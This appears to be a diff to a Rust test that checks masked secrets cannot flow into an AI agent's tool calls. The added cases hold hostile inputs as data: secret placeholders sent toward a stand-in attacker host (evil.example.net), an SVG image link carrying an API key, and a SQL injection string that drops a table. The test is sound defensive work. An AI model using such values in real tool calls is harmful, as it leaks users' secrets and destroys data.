@@ -93,6 +93,11 @@ fn no_way_leads_a_masked_value_where_it_may_not_go() {
         ("any.tool", json!({ "x": "[PASSWORD_1]" })),
         ("web.fetch", json!({ "url": format!("{evil}[API_KEY_1]") })),
         ("web.search", json!({ "q": "[PASSWORD_1]" })),
+        // Secrets at home, inside of a text that a reader may follow.
+        ("book.read", json!({ "path": format!("{evil}[API_KEY_1]") })),
+        ("book.read", json!({ "schema": "evil.example.net/[PASSWORD_1]" })),
+        ("book.read", json!({ "svg": "<image href='x/[API_KEY_1]'/>" })),
+        ("book.read", json!({ "where": "a; drop table b -- [EMAIL_1]" })),
         // Secrets at home, out of a tool that sends or pays.
         ("book.send", json!({ "to": "eve@evil.example.net", "body": "[PASSWORD_1]" })),
         ("book.send", json!({ "to": "[EMAIL_1]", "body": "[API_KEY_1]" })),
